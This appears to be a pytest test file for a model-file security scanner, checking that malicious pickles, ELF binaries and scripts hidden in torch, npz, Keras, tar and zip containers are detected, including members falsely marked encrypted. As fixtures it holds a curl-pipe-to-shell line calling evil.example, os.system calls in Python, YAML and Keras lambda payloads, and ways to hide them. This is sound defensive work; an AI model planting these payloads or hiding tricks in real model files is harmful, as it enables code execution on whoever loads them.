"""What a model container carries besides what its loader uses: storage records no pickle
names, programs and libraries, members flagged encrypted but stored in the clear.

Containers are written by torch, numpy, zipfile and tarfile; payloads are a real ELF (the
running interpreter's first bytes), a shell script and pickles of objects whose
`__reduce__` names `os.system` (never loaded).
"""

from __future__ import annotations

import io
import sys
import tarfile
import zipfile
import zlib
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from modelaudit.findings import IssueSeverity
from modelaudit.rules import containers as crules
from modelaudit.rules import data as rd
from modelaudit.rules import frameworks as rf
from tests.containers._container_corpus import (
    Member,
    criticals,
    payload,
    raw_zip,
    rules_of,
    scan,
    zipcrypto,
)
from tests.frameworks.test_keras_zip import _lambda3, keras3_config, write_keras_zip

ELF = Path(sys.executable).resolve().read_bytes()[:8192]
SCRIPT = b"#!/bin/sh\ncurl -s https://evil.example/x | sh\n"
CRIT = IssueSeverity.CRITICAL
WARN = IssueSeverity.WARNING


def _torch(path: Path, tensors: int = 3) -> Path:
    import torch

    torch.save({f"w{i}": torch.full((4,), float(i)) for i in range(tensors)}, path)
    return path


def _prefix(path: Path) -> str:
    with zipfile.ZipFile(path) as zf:
        return zf.namelist()[0].split("/", 1)[0]


def _add(path: Path, name: str, data: bytes) -> None:
    with zipfile.ZipFile(path, "a") as zf:
        zf.writestr(name, data)


def test_unreferenced_storage_record_holding_a_pickle(tmp_path: Path) -> None:
    path = _torch(tmp_path / "model.pt")
    _add(path, f"{_prefix(path)}/data/99", payload(2))
    result = scan(path)
    assert crules.UNREFERENCED_RECORD in rules_of(result)
    assert any("system" in m for m in criticals(result))


def test_unreferenced_storage_record_holding_an_elf(tmp_path: Path) -> None:
    path = _torch(tmp_path / "model.pt")
    _add(path, f"{_prefix(path)}/data/7", ELF)
    result = scan(path)
    assert crules.UNREFERENCED_RECORD in rules_of(result)
    assert crules.EXECUTABLE_IN_MODEL in {i.rule for i in result.issues if i.severity is CRIT}


def test_every_record_of_a_real_checkpoint_is_referenced(tmp_path: Path) -> None:
    result = scan(_torch(tmp_path / "model.pt", tensors=12))
    assert crules.UNREFERENCED_RECORD not in rules_of(result)
    assert not [i for i in result.issues if i.severity.rank >= WARN.rank]


def test_library_in_keras_assets_is_critical_and_located(tmp_path: Path) -> None:
    path = write_keras_zip(
        tmp_path / "m.keras", keras3_config([]), extra={"assets/libcustom_ops.so": ELF}
    )
    result = scan(path)
    found = [i for i in result.issues if i.rule == crules.EXECUTABLE_IN_MODEL]
    assert found and found[0].severity is CRIT
    assert "assets/libcustom_ops.so" in found[0].message


def test_program_in_npz_and_torch_zip_is_critical(tmp_path: Path) -> None:
    npz = tmp_path / "arrays.npz"
    np.savez(npz, w=np.zeros(3))
    _add(npz, "install.sh", SCRIPT)
    assert crules.EXECUTABLE_IN_MODEL in rules_of(scan(npz))
    pt = _torch(tmp_path / "model.pt")
    _add(pt, f"{_prefix(pt)}/extra/run.exe", ELF)
    assert crules.EXECUTABLE_IN_MODEL in rules_of(scan(pt))


def _tar(path: Path, name: str, data: bytes) -> Path:
    with tarfile.open(path, "w") as tf:
        for n, d in (("model_weights.ckpt", b"w" * 32), (name, data)):
            info = tarfile.TarInfo(n)
            info.size = len(d)
            tf.addfile(info, io.BytesIO(d))
    return path


def test_script_in_model_tarball_is_critical_in_plain_tar_a_warning(tmp_path: Path) -> None:
    nemo = scan(_tar(tmp_path / "model.nemo", "setup.sh", SCRIPT))
    assert crules.EXECUTABLE_IN_MODEL in rules_of(nemo)
    plain = scan(_tar(tmp_path / "bundle.tar", "setup.sh", SCRIPT))
    assert rd.EXECUTABLE_FILE in {i.rule for i in plain.issues if i.severity is WARN}
    assert not criticals(plain)


def test_elf_in_plain_zip_is_a_warning(tmp_path: Path) -> None:
    path = tmp_path / "tools.zip"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("bin/helper", ELF)
    result = scan(path)
    assert rd.EXECUTABLE_FILE in {i.rule for i in result.issues if i.severity is WARN}
    assert not criticals(result)


def test_data_pkl_flagged_encrypted_but_stored_in_the_clear(tmp_path: Path) -> None:
    """torch's miniz reader ignores the encrypted flag: the pickle must be scanned."""
    real = _torch(tmp_path / "model.pt")
    with zipfile.ZipFile(real) as zf:
        members = [Member(i.filename, zf.read(i)) for i in zf.infolist()]
    for m in members:
        if m.name.endswith("data.pkl"):
            m.data = payload(2)
            m.flags = 0x1
    path = tmp_path / "evil.pt"
    path.write_bytes(raw_zip(members))
    result = scan(path)
    assert any("system" in m for m in criticals(result))
    assert any("encrypted" in i.message for i in result.issues if i.rule == crules.ZIP_ANOMALY)


def test_plain_zip_member_flagged_encrypted_but_clear_is_scanned(tmp_path: Path) -> None:
    path = tmp_path / "bundle.zip"
    path.write_bytes(raw_zip([Member("model.pkl", payload(2), flags=0x1)]))
    result = scan(path)
    assert any("system" in m for m in criticals(result))


def test_really_encrypted_member_stays_unscannable(tmp_path: Path) -> None:
    path = tmp_path / "bundle.zip"
    data = payload(2)
    crc = zlib.crc32(data)
    secret = zipcrypto(data, b"secret", crc)
    path.write_bytes(raw_zip([Member("model.pkl", data, flags=0x1, stored=secret, crc=crc)]))
    with zipfile.ZipFile(path) as zf:  # what `zip -e` writes: zipfile decrypts it
        assert zf.read("model.pkl", pwd=b"secret") == data
    result = scan(path)
    assert crules.ENCRYPTED_MEMBER in rules_of(result)
    assert result.status.value == "inconclusive"


@pytest.mark.parametrize(
    ("name", "content", "method"),
    [
        ("setup_model.py", b"import os\nos.system('id')\n", 8),
        ("config.yaml", b"model: !!python/object/apply:os.system ['id']\n", 0),
    ],
)
def test_clear_member_flagged_encrypted_is_scanned_by_its_crc(
    tmp_path: Path, name: str, content: bytes, method: int
) -> None:
    """Content no sniffer knows, flagged encrypted: its bytes are exactly what the CRC says."""
    path = tmp_path / "bundle.zip"
    path.write_bytes(raw_zip([Member(name, content, method=method, flags=0x1)]))
    result = scan(path)
    assert criticals(result), [i.message for i in result.issues]
    assert crules.ENCRYPTED_MEMBER not in rules_of(result)


def test_clear_benign_member_flagged_encrypted_is_quiet(tmp_path: Path) -> None:
    path = tmp_path / "bundle.zip"
    path.write_bytes(raw_zip([Member("README.md", b"# weights\nsee model.bin\n", flags=0x1)]))
    result = scan(path)
    assert not criticals(result)
    assert result.status.value == "complete"


EVIL_LAMBDA = "lambda s: __import__('os').system('id') or s"


def _keras_members(tmp_path: Path, layers: list[Any]) -> list[Member]:
    real = write_keras_zip(tmp_path / "real.keras", keras3_config(layers))
    with zipfile.ZipFile(real) as zf:
        return [Member(i.filename, zf.read(i)) for i in zf.infolist()]


def test_keras_member_flagged_encrypted_but_clear_is_scanned(tmp_path: Path) -> None:
    """zipfile (and so Keras) refuses the member; miniz and other readers do not."""
    members = _keras_members(tmp_path, [])
    path = tmp_path / "model.keras"
    path.write_bytes(raw_zip([*members, Member("assets/state.pkl", payload(2), flags=0x1)]))
    result = scan(path)
    assert any("system" in m for m in criticals(result))
    assert crules.ENCRYPTED_MEMBER not in rules_of(result)


@pytest.mark.parametrize(
    "decoy",
    [
        Member("aaa/notes.bin", b"x" * 40, method=99),
        Member(
            "aaa/notes.bin",
            b"x" * 40,
            flags=0x1,
            stored=zipcrypto(b"x" * 40, b"k", zlib.crc32(b"x" * 40)),
            crc=zlib.crc32(b"x" * 40),
        ),
    ],
    ids=["unknown-method", "really-encrypted"],
)
def test_unreadable_keras_member_does_not_hide_the_config(tmp_path: Path, decoy: Member) -> None:
    """Keras never opens the decoy, so it loads the model: its config is still judged."""
    members = _keras_members(tmp_path, [_lambda3(EVIL_LAMBDA)])
    path = tmp_path / "model.keras"
    path.write_bytes(raw_zip([decoy, *members]))
    result = scan(path)
    assert {rf.KERAS_LAMBDA_DANGEROUS} <= {i.rule for i in result.issues if i.severity is CRIT}
    assert rules_of(result) & {crules.ENCRYPTED_MEMBER, crules.UNSUPPORTED_COMPRESSION}
    assert result.status.value == "inconclusive"
